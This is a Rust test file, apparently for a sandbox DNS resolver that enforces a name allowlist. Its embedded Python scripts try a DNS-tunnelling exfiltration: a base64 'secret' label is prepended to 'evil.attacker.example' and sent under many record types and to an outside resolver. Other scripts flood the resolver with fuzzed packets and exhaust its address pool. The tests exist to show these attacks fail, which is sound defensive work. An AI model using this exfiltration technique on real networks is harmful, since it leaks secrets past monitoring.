//! What does a name that nothing allows get for an answer, and does any label of it leave? (E8)

use crate::world::World;

#[test]
fn a_denied_name_does_not_exist_and_says_why() {
    let world = World::new();
    let script = "
option = struct.pack('>BHHIH', 0, 41, 1232, 0, 0)
answer = ask('28.0.0.1', 'Evil.Attacker.EXAMPLE', more=option)
assert answer[:2] == b'\\xb0\\x77', 'the id'
assert answer[12:].startswith(question('Evil.Attacker.EXAMPLE')[12:]), 'the question, in its own letters'
print(code(answer), answer[2] >> 7, answer[2] & 1, struct.unpack('>HHHH', answer[4:12])[:3])
at = answer.index(struct.pack('>H', 15), answer.index(b'\\0\\0\\x29', 40))
print(struct.unpack('>HHH', answer[at:at + 6])[2])";
    let (said, run) = world.allow(&["api.allowed.example"]).python(script);
    assert_eq!(said, ["3 1 1 (1, 0, 1)", "15"], "15 is Blocked (RFC 8914)");
    assert_eq!(run.log.names_denied(), ["evil.attacker.example"]);
    assert!(world.lab.dns_queries().unwrap().is_empty());
}

#[test]
fn labels_do_not_carry_a_secret_out() {
    let world = World::new();
    let script = "
for name in 'c2VjcmV0.evil.attacker.example', 'c2VjcmV0.api.allowed.example', 'c2VjcmV0.x.wild.example':
    for kind in 1, 28, 15, 16, 33, 65, 255: end(ask, '28.0.0.1', name, kind)
    end(ask, '11.8.8.8', name); end(socket.getaddrinfo, name, 443)
stream = tcp('11.8.8.8', 53); whole = question('c2VjcmV0.evil.attacker.example')
stream.sendall(struct.pack('>H', len(whole)) + whole); stream.recv(2); print(code(stream.recv(512)))";
    let (said, _) = world.allow(&["api.allowed.example", "*.wild.example"]).python(script);
    assert_eq!(said, ["3"]);
    let packets = world.lab.all_packets().unwrap();
    assert!(!packets.iter().any(|packet| packet.bytes.windows(8).any(|part| part.eq_ignore_ascii_case(b"c2VjcmV0"))));
}

#[test]
fn other_records_of_an_allowed_name_are_empty_answers() {
    let world = World::new();
    let script = "for kind in 28, 15, 16, 33, 64, 65:
    answer = ask('28.0.0.1', 'api.allowed.example', kind)
    print(code(answer), struct.unpack('>H', answer[6:8])[0])
place = socket.gethostbyname('api.allowed.example')
print(socket.gethostbyaddr(place)[0])";
    let (said, _) = world.allow(&["api.allowed.example"]).python(script);
    assert_eq!(said[..6], ["0 0"; 6]);
    assert_eq!(said[6], "api.allowed.example");
    assert!(world.lab.dns_queries().unwrap().is_empty());
}

#[test]
fn a_name_keeps_its_address_from_run_to_run() {
    let world = World::new();
    let look = || world.allow(&["api.allowed.example"]).python("print(socket.gethostbyname('api.allowed.example'))").0;
    assert_eq!(look(), look());
}

#[test]
fn queries_that_are_none_do_no_harm() {
    let world = World::new();
    let script = "
import random
random.seed(7)
whole = question('api.allowed.example')
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
    stream.connect(('28.0.0.1', 53))
    for at in range(len(whole)): stream.send(whole[:at])
    for _ in range(500): stream.send(random.randbytes(random.randrange(1, 600)))
    for _ in range(500):
        broken = bytearray(whole); broken[random.randrange(len(whole))] ^= 1 << random.randrange(8); stream.send(broken)
    stream.send(b'\\0\\0\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1')
stream = tcp('28.0.0.1', 53); stream.sendall(b'\\xff\\xff' + bytes(100)); stream.close()
print(code(ask_until_answered('28.0.0.1', 'api.allowed.example')), https('api.allowed.example'))";
    let (said, _) = world.allow(&["api.allowed.example"]).python(script);
    assert_eq!(said, ["0 200"]);
}

#[test]
fn more_names_than_there_are_addresses_for_fail_and_the_known_ones_still_work() {
    let world = World::new();
    let script = "
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
    stream.settimeout(PATIENCE); stream.connect(('28.0.0.1', 53))
    assert code(ask('28.0.0.1', 'api.allowed.example')) == 0
    codes = []
    for batch in range(0, 65_600, 50):
        for number in range(batch, batch + 50): stream.send(question(f'n{number}.allowed.example'))
        codes += [stream.recv(600)[3] & 15 for _ in range(50)]
print(codes.count(0), set(codes[65_535:]), https('api.allowed.example'))";
    let (said, _) = world.allow(&["*.allowed.example"]).python(script);
    assert_eq!(said, ["65535 {2} 200"]);
    assert!(world.lab.dns_queries().unwrap().iter().all(|query| query.name == "api.allowed.example"));
}
